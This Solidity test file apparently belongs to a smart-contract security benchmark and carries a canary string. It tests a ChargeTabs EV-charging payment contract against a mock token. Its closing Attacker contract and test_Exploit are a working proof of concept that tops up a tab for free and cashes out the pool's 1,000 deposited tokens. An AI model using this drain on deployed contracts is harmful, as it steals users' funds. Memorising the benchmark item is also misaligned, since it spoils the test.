// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./ChargeTabs.sol";

// assay-canary-bd577bf5-0529-49d7-a4ee-d90a771d3e0d

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

// Returns nothing, and reverts where it does not move: without a word, or with one when it is frozen.
contract OldDollar {
    address private maker = msg.sender;
    bool private frozen;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    constructor() {
        balanceOf[msg.sender] = 100_000 ether;
    }

    function freeze() external {
        require(msg.sender == maker);
        frozen = true;
    }

    function approve(address spender, uint256 amount) external {
        allowance[msg.sender][spender] = amount;
    }

    function transfer(address to, uint256 amount) external {
        move(msg.sender, to, amount);
    }

    function transferFrom(address from, address to, uint256 amount) external {
        require(allowance[from][msg.sender] >= amount);
        allowance[from][msg.sender] -= amount;
        move(from, to, amount);
    }

    function move(address from, address to, uint256 amount) private {
        require(!frozen, "frozen");
        require(balanceOf[from] >= amount);
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant DOCK = address(0xD0C);
    uint256 private constant START = 1_700_000_000;

    bytes private constant FROZEN = abi.encodeWithSignature("Error(string)", "frozen");

    OldDollar public usd;
    ChargeTabs private tabs;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        usd = new OldDollar();
        tabs = new ChargeTabs(address(usd));
        tabs.addStation(DOCK, 0.5 ether);
        usd.approve(address(tabs), 5_000 ether);
        tabs.topUp(ANA, 600 ether);
        tabs.topUp(BEN, 400 ether);
        mallory = new Attacker(tabs);
    }

    function test_Regular() public {
        require(usd.balanceOf(address(tabs)) == 1_000 ether && tabs.tabOf(ANA) == 600 ether, "topped up");
        vm.prank(ANA);
        tabs.plugIn(DOCK, 50 ether);
        vm.startPrank(DOCK);
        tabs.setPrice(0.6 ether);
        require(tabs.bill(ANA, 40) == 24 ether, "forty hours");
        tabs.cashOut(20 ether);
        vm.stopPrank();
        require(usd.balanceOf(DOCK) == 20 ether && tabs.tabOf(DOCK) == 4 ether && tabs.tabOf(ANA) == 576 ether, "billed");
        vm.startPrank(BEN);
        tabs.plugIn(DOCK, 400 ether);
        vm.warp(START + 1 days + 1);
        tabs.unplug();
        tabs.cashOut(400 ether);
        vm.stopPrank();
        require(usd.balanceOf(BEN) == 400 ether && tabs.tabOf(BEN) == 0, "cashed out");
        tabs.setBoss(ANA);
        require(tabs.boss() == ANA, "boss");
    }

    function test_RefusesSetups() public {
        vm.expectRevert("no token there");
        new ChargeTabs(ANA);
        vm.expectRevert("boss is zero");
        tabs.setBoss(address(0));
        vm.expectRevert("station is zero");
        tabs.addStation(address(0), 1);
        vm.expectRevert("bad price or known already");
        tabs.addStation(ANA, 0);
        vm.expectRevert("bad price or known already");
        tabs.addStation(DOCK, 1);
        vm.startPrank(ANA);
        vm.expectRevert(ChargeTabs.NotBoss.selector);
        tabs.setBoss(ANA);
        vm.expectRevert(ChargeTabs.NotBoss.selector);
        tabs.addStation(ANA, 1);
        vm.expectRevert(abi.encodeWithSelector(ChargeTabs.NotStation.selector, ANA));
        tabs.setPrice(1);
        vm.stopPrank();
        vm.prank(DOCK);
        vm.expectRevert("price is zero");
        tabs.setPrice(0);
    }

    function test_RefusesMoves() public {
        vm.expectRevert("driver or amount is zero");
        tabs.topUp(address(0), 1);
        vm.expectRevert("driver or amount is zero");
        tabs.topUp(ANA, 0);
        vm.startPrank(ANA);
        vm.expectRevert(abi.encodeWithSelector(ChargeTabs.TooLittle.selector, 600 ether, 600 ether + 1));
        tabs.cashOut(600 ether + 1);
        vm.stopPrank();
        usd.freeze();
        vm.expectRevert(abi.encodeWithSelector(ChargeTabs.NotMoved.selector, FROZEN));
        tabs.topUp(ANA, 1);
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(ChargeTabs.NotMoved.selector, FROZEN));
        tabs.cashOut(1);
    }

    function test_RefusesSessions() public {
        vm.startPrank(ANA);
        vm.expectRevert(abi.encodeWithSelector(ChargeTabs.NotStation.selector, BEN));
        tabs.plugIn(BEN, 1);
        vm.expectRevert("limit is zero");
        tabs.plugIn(DOCK, 0);
        vm.expectRevert(abi.encodeWithSelector(ChargeTabs.TooLittle.selector, 600 ether, 601 ether));
        tabs.plugIn(DOCK, 601 ether);
        vm.expectRevert("not plugged in");
        tabs.unplug();
        tabs.plugIn(DOCK, 10 ether);
        vm.expectRevert("unplug first");
        tabs.plugIn(DOCK, 10 ether);
        vm.expectRevert(abi.encodeWithSelector(ChargeTabs.NotStation.selector, ANA));
        tabs.bill(ANA, 0);
        vm.warp(START + 1 days);
        vm.expectRevert("give it a day");
        tabs.unplug();
        vm.stopPrank();
        vm.startPrank(DOCK);
        vm.expectRevert(abi.encodeWithSelector(ChargeTabs.TooLittle.selector, 10 ether, 10.5 ether));
        tabs.bill(ANA, 21);
        tabs.bill(ANA, 20);
        vm.expectRevert(abi.encodeWithSelector(ChargeTabs.NotStation.selector, DOCK));
        tabs.bill(ANA, 0);
        vm.stopPrank();
        vm.prank(ANA);
        vm.expectRevert("not plugged in");
        tabs.unplug();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(mallory)) == 1_000 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(tabs);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    ChargeTabs private tabs;

    constructor(ChargeTabs t) {
        tabs = t;
    }

    function run() external {
        tabs.topUp(address(this), 1_000 ether);
        tabs.cashOut(1_000 ether);
    }
}
